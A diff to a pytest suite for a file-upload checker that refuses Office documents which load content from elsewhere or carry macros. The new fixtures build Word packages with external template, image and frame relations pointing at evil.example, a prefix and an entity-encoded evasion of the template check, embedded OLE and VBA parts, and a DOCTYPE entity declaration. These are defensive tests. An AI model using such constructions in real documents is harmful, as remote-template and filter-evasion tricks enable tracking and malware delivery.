@@ -125,7 +125,9 @@ def test_honest_files_are_taken(name: str, data: bytes, content_type: str) -> No
         ("a.docx", word(word__activeX__activeX1_xml=b"x"), "macros or embedded"),
         (
             "a.docx",
-            word(word___rels__settings_xml_rels=b"").replace(b"settings_xml_rels", b"settings.xml.rels"),
+            word(word___rels__settings_xml_rels=b"<Relationships/>").replace(
+                b"settings_xml_rels", b"settings.xml.rels"
+            ),
             None,
         ),
         ("a.odt", package({"mimetype": b"application/zip"}), "damaged|something else"),
@@ -148,15 +150,46 @@ def test_other_files_are_refused_in_words_for_people(name: str, data: bytes, mes
         look(data, name)
 
 
-def test_an_office_file_that_loads_a_template_from_elsewhere_is_refused() -> None:
-    kind = b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
-    relation = b'<Relationship Id="1" ' + kind + b"/>"
-    parts = {
-        "[Content_Types].xml": f"<Types><Override ContentType='{WORD}.main+xml'/></Types>".encode(),
-        "word/_rels/settings.xml.rels": b"<Relationships>" + relation + b"</Relationships>",
-    }
-    with pytest.raises(Invalid, match="template from elsewhere"):
-        look(package(parts), "a.docx")
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def related(kind: str, target: str, *, external: bool = True, start: str = "", prefix: str = "") -> bytes:
+    """Return a Word file with one more relation; ``start`` is put before its XML."""
+    mode = 'TargetMode="External"' if external else ""
+    relation = f'<{prefix}Relationship Id="1" Type="{RELATION}/{kind}" Target="{target}" {mode}/>'
+    namespace = f' xmlns:{prefix[:-1]}="r"' if prefix else ""
+    return package(
+        {
+            "[Content_Types].xml": f"<Types><Override ContentType='{WORD}.main+xml'/></Types>".encode(),
+            "word/_rels/document.xml.rels": (
+                f"{start}<{prefix}Relationships{namespace}>{relation}</{prefix}Relationships>".encode()
+            ),
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (related("attachedTemplate", "https://evil.example/t.dotm"), "from elsewhere"),
+        (related("image", "https://evil.example/seen.png"), "from elsewhere"),
+        (related("frame", "https://evil.example/"), "from elsewhere"),
+        (related("attachedTemplate", "https://evil.example/t.dotm", prefix="x:"), "from elsewhere"),
+        (related("attached&#84;emplate", "https://evil.example/t.dotm"), "from elsewhere"),
+        (related("oleObject", "media/image1.png", external=False), "macros or embedded"),
+        (related("vbaProject", "media/image1.png", external=False), "macros or embedded"),
+        (related("image", "a.png", external=False, start='<!DOCTYPE x [<!ENTITY a "b">]>'), "damaged"),
+        (related("image", "a.png", external=False, start="no XML"), "damaged"),
+    ],
+)
+def test_an_office_file_that_acts_or_asks_elsewhere_is_refused(data: bytes, message: str) -> None:
+    with pytest.raises(Invalid, match=message):
+        look(data, "a.docx")
+
+
+def test_links_and_pictures_in_an_office_file_are_its_own_business() -> None:
+    assert look(related("hyperlink", "https://library.example/"), "a.docx").content_type == WORD
+    assert look(related("image", "media/image1.png", external=False), "a.docx").content_type == WORD
 
 
 def test_a_package_that_unpacks_to_far_more_is_refused() -> None:
